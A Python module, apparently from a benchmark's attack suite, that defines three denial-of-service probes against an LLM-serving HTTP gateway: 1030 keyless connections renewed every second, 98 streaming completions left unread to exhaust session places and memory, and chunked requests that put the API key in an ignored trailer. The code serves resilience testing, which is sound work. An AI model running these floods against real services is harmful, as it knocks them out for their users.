"""Attacks on the HTTP gateway: silent connections, streams never read, requests without a key."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from typing import Any
from urllib.parse import urlsplit

from bench.attack.attack import STREAMING, Attack, Target, run_at_once

SILENT = 1030
RENEW_S = 1.0
UNREAD = 98
"""With the victim's stream and the attacker's next one, all places of open sessions by default."""
PROMPT = "The sea was calm on that day. " * 250
"""Its probabilities are more than the buffers between the gateway and a client hold."""
UNKNOWN_THREADS = 4
RETRY_PAUSE_S = 0.1
TIMEOUT_S = 5.0


def _connect(target: Target, receive_bytes: int = 0) -> socket.socket:
    """Return a connection to the gateway; *receive_bytes* bounds what the kernel reads of it."""
    url = urlsplit(target.gateway)
    sock = socket.socket()
    sock.settimeout(TIMEOUT_S)
    if receive_bytes:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    try:
        sock.connect((url.hostname, url.port))
    except OSError:
        sock.close()
        raise
    return sock


def _post(target: Target, more: str, body: bytes) -> bytes:
    host = urlsplit(target.gateway).netloc
    head = f"POST /v1/completions HTTP/1.1\r\nHost: {host}\r\n{more}\r\n\r\n"
    return head.encode() + body


def hold_silent_connections(target: Target) -> None:
    """Keep 1030 connections open without a key or a request, and renew all of them again and again.
    The gateway closes some of them.
    """
    while not target.is_over():
        held: list[socket.socket] = []
        renew_at_s = time.monotonic() + RENEW_S
        with suppress(OSError):
            while len(held) < SILENT:
                held.append(_connect(target))
        time.sleep(max(renew_at_s - time.monotonic(), 0.0))
        for sock in held:
            sock.close()


def leave_streams_unread(target: Target) -> None:
    """Begin a stream on each of 98 connections, and read nothing; replace those that end."""
    fields: dict[str, Any] = {"model": target.model, "prompt": PROMPT, "stream": True}
    fields |= {"priority": target.priority, "max_tokens": 1, "logprobs": 5, "echo": True}
    body = json.dumps(fields).encode()
    key = f"Authorization: Bearer {target.gateway_key}"
    request = _post(target, f"{key}\r\nContent-Length: {len(body)}", body)
    held: list[socket.socket] = []
    while not target.is_over():
        with suppress(OSError):
            while len(held) < UNREAD:
                held.append(_connect(target, 4096))
                held[-1].sendall(request)
        time.sleep(RETRY_PAUSE_S)
        for sock in tuple(held):
            if _has_ended(sock):
                held.remove(sock)
                sock.close()


def _has_ended(sock: socket.socket) -> bool:
    """Return whether the gateway has refused the request or cut the connection off."""
    try:
        found = sock.recv(64, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return False
    except OSError:
        return True
    return not found.startswith(b"HTTP/1.1 200 ")


def _send_often(target: Target, *, request_of: Callable[[Target], bytes]) -> None:
    """Send a request again and again, each after the response to the previous one."""
    request = request_of(target)
    while not target.is_over():
        try:
            with _connect(target) as sock:
                while not target.is_over():
                    sock.sendall(request)
                    if not sock.recv(65536):
                        break
        except OSError:
            time.sleep(RETRY_PAUSE_S)


def _with_key_in_trailer(target: Target) -> bytes:
    body = json.dumps({"model": target.model, "prompt": "x" * 1000, "max_tokens": 1000}).encode()
    trailer = f"Authorization: Bearer {target.gateway_key}\r\n".encode()
    chunks = b"%x\r\n%b\r\n0\r\n%b\r\n" % (len(body), body, trailer)
    return _post(target, "Transfer-Encoding: chunked\r\nTrailer: Authorization", chunks)


send_without_key = partial(_send_often, request_of=_with_key_in_trailer)


def send_without_key_often(target: Target) -> None:
    """Send requests whose key is in a trailer, where it has no effect, without a pause."""
    run_at_once(target, [send_without_key] * UNKNOWN_THREADS)


ATTACKS = (
    Attack("gateway-silent", "1030 connections without a key, renewed every second",
           hold_silent_connections, ("share", "calls", "places"), modes=("gateway",)),
    Attack("gateway-unread", "98 streams over HTTP that nobody reads", leave_streams_unread,
           ("share", "calls", "memory", "places"), STREAMING, modes=("gateway",)),
    Attack("gateway-trailers", "Requests with the key in a trailer, on 4 connections",
           send_without_key_often, modes=("gateway",)),
)  # fmt: skip
